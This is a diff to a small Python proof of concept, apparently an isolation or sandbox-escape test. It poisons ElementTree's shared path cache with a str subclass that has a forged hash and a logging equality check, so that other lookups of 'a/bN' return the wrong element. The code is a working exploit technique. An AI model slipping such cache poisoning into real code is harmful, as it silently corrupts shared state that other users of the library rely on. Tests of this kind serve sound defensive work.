@@ -9,10 +9,11 @@ import xml.etree.ElementTree as tree
 
 
 class Evil(str):
+    like = ""
     seen = []
 
     def __hash__(self):
-        return hash("a/b")
+        return hash(self.like)
 
     def __eq__(self, other):
         self.seen.append(other)
@@ -20,8 +21,13 @@ class Evil(str):
 
 
 def attack():
-    document = tree.XML("<r><a><b/></a><c/></r>")
-    document.find("a/b")
-    document.find(Evil("./c"))
-    document.find(Evil("./c"))
-    return "ESCAPED: a/b is everybody's " + document.find("a/b").tag if document.find("a/b").tag == "c" else ""
+    names = [f"b{number}" for number in range(10)]  # one is enough, and where a key lies in a table is luck
+    document = tree.XML("<r><a>" + "".join(f"<{name}/>" for name in names) + "</a><c/></r>")
+    for name in names:
+        Evil.like = f"a/{name}"
+        Evil.seen.clear()
+        document.find(Evil.like)
+        document.find(Evil("./c"))
+        document.find(Evil("./c"))
+    changed = [name for name in names if document.find(f"a/{name}").tag == "c"]
+    return f"ESCAPED: everybody's a/{changed[0]} is c" if changed else ""
